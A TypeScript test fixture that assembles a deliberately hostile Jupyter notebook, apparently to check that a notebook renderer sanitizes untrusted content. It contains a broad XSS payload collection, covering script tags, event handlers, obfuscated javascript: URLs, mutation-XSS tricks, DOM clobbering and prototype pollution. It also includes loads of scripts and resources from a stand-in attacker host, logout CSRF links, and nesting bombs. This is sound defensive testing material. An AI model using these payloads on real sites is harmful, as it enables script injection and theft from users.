/** What every attack below calls or fetches when it succeeds. */
const run = "window.stolen='yes'"
const host = 'https://thief.example'

const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"
  onload="${run}"><script>${run}</script><style>@import url(${host}/a.css); rect{fill:url(${host}/b.svg#x)}</style>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${host}/c"></iframe></foreignObject>
  <image href="${host}/d.png" width="9" height="9"/><use xlink:href="${host}/e.svg#y"/>
  <a href="javascript:${run}"><rect width="40" height="40"/></a><animate attributeName="href" to="javascript:${run}"/></svg>`

const markdown = [
  `<script>${run}</script><script src="${host}/f.js"></script>`,
  `<img src="x" onerror="${run}"> <img src=x/onerror=${run}> <img src="${host}/g.png" srcset="${host}/h.png 2x">`,
  `![pixel](${host}/i.png) ![relative](../j.png) ![data](data:text/html;base64,PHNjcmlwdD4=)`,
  `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](&#106;avascript:${run}) [d](data:text/html,x) [e](vbscript:x)`,
  `<a href="java\tscript:${run}">f</a> <a href=" javascript:${run}">g</a> <a href="//thief.example">h</a>`,
  `<a href="/auth/v1/logout">i</a> <img src="/auth/v1/logout"> <form action="/auth/v1/logout"><button>j</button></form>`,
  `<iframe src="${host}/k" srcdoc="<script>${run}</script>"></iframe><object data="${host}/l"></object><embed src="${host}/m">`,
  `<style>@import "${host}/n.css"; body { display: none }</style><link rel="stylesheet" href="${host}/o.css">`,
  `<div style="position:fixed;inset:0;background:url(${host}/p.png)" class="fixed inset-0" id="root">q</div>`,
  `<base href="${host}/"><meta http-equiv="refresh" content="0;url=${host}">`,
  `<input autofocus onfocus="${run}"><details open ontoggle="${run}"><summary>r</summary>s</details>`,
  `<video src="${host}/q.mp4" autoplay poster="${host}/r.png"></video><audio src="${host}/s.mp3"></audio>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math>`,
  `<svg><p><style><a id="</style><img src=1 onerror=${run}>"></p></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<form id="cookie"><input name="attributes"><input name="parentNode"></form><img name="getElementById">`,
  `<a id="fest-config">t</a><a name="fest-page">u</a>`,
  svg,
  String.raw`$\href{javascript:window.stolen=1}{a}$ $\url{javascript:window.stolen=1}$`,
  String.raw`$\includegraphics[height=1em]{https://thief.example/t.png}$ $\htmlStyle{background:url(//thief.example/u)}{b}$`,
  String.raw`$\htmlData{x=y}{c}$ $\htmlId{root}{d}$ $\htmlClass{fixed}{e}$ $\rule{9999em}{9999em}$ $\fcolorbox{red}{blue}{f}$`,
  String.raw`$\def\x{\x\x}\x$ $\text{<img src=x onerror=window.stolen=1>}$ $</span><script>window.stolen=1</script>$`,
  '```<img src=x onerror=window.stolen=1>\n</code><script>window.stolen=1</script>\n```',
  '![k](attachment:page.html) ![l](attachment:__proto__) ![m](attachment:constructor) ![n](attachment:drawing.svg)',
].join('\n\n')

const base64 = (text: string) => Buffer.from(text).toString('base64')

const cells = [
  {
    cell_type: 'markdown',
    metadata: {},
    source: markdown,
    attachments: {
      'page.html': { 'text/html': base64(`<script>${run}</script>`) },
      'drawing.svg': { 'image/svg+xml': base64(svg) },
    },
  },
  {
    cell_type: 'code',
    metadata: {},
    execution_count: 1,
    source: `# </pre><script>${run}</script>\nprint("<img src=x onerror=${run}>")`,
    outputs: [
      { output_type: 'display_data', metadata: {}, data: { 'text/html': markdown, 'text/plain': 'p' } },
      { output_type: 'display_data', metadata: {}, data: { 'image/svg+xml': svg } },
      {
        output_type: 'display_data',
        metadata: {},
        data: { 'text/html': `<script>${run}</script>`, 'text/plain': 'fallback' },
      },
      { output_type: 'display_data', metadata: {}, data: { 'image/png': `"><script>${run}</script>` } },
      {
        output_type: 'display_data',
        metadata: {},
        data: { 'application/javascript': run, 'text/markdown': markdown },
      },
      {
        output_type: 'display_data',
        metadata: {},
        data: { 'text/latex': String.raw`$\href{javascript:window.stolen=1}{q}$` },
      },
      {
        output_type: 'stream',
        name: 'stderr',
        text: `\u001B]8;;javascript:${run}\u0007x\u001B]8;;\u0007<script>${run}</script>`,
      },
      {
        output_type: 'error',
        ename: 'E',
        evalue: 'v',
        traceback: [`\u001B[31m<img src=x onerror=${run}>\u001B[0m`],
      },
    ],
  },
  {
    cell_type: 'markdown',
    metadata: {},
    source: `${'>'.repeat(20_000)} deep\n\n${'['.repeat(20_000)}\n\n${'$'.repeat(20_001)}`,
  },
  {
    cell_type: 'markdown',
    metadata: {},
    source: `${'- '.repeat(5000)}x\n\n${'*_'.repeat(10_000)}\n\n${'<div>'.repeat(10_000)}`,
  },
  { cell_type: '__proto__', source: 'x' },
  { cell_type: 'markdown', metadata: {}, source: '## The end of it' },
]

/** A notebook file in which every text tries to run a script, to load something, or to take over the page. */
export const hostileNotebook: string = `{"__proto__":{"stolen":"yes"},"constructor":{"prototype":{"stolen":"yes"}},${JSON.stringify(
  { nbformat: 4, nbformat_minor: 5, metadata: {}, cells },
).slice(1)}`
